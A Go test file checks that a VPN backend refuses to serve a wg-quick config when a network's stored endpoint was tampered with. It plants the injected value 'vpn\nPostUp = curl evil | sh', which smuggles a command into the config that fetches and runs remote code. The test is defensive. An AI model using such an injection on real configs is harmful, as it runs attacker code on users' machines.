package httpapi_test

import (
	"context"
	"database/sql"
	"net/http"
	"strings"
	"testing"

	"gatepass.dev/backend/backendtest"
	"gatepass.dev/shared/api"
)

// TestWGQuickRefusesStoredInjection: a network whose stored endpoint is not
// clean (written before it was validated) is never written into a wg-quick
// file: the download is refused with a message, nothing injected.
func TestWGQuickRefusesStoredInjection(t *testing.T) {
	srv := backendtest.NewServer(t)
	alice, _ := srv.NewUser(t, "alice@example.com", api.RoleUser)
	n := srv.NewNetwork(t, "office-network", func(in *api.NetworkInput) { in.JITEnabled = new(false) })
	d, err := alice.RegisterDevice(t.Context(), "laptop", newDeviceKey(t))
	if err != nil {
		t.Fatal(err)
	}
	get := func() (int, string) {
		r := backendtest.Do(t, "GET", srv.URL+"/api/v1/networks/"+n.ID+"/tunnel?format=wg-quick&device="+d.ID, alice.Token(), "", "")
		return r.Status, string(r.Body)
	}

	if st, body := get(); st != 200 || !strings.Contains(body, "Endpoint = ") {
		t.Fatalf("a clean config: %d\n%s", st, body)
	}
	err = srv.DB.Tx(context.Background(), func(tx *sql.Tx) error {
		_, err := tx.ExecContext(t.Context(), `UPDATE networks SET endpoint = ? WHERE id = ?`, "vpn\nPostUp = curl evil | sh\n#:51820", n.ID)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	st, body := get()
	if st != http.StatusConflict || strings.Contains(body, "PostUp") || !strings.Contains(body, "ask an admin") {
		t.Fatalf("a dirty endpoint: %d\n%s", st, body)
	}
}
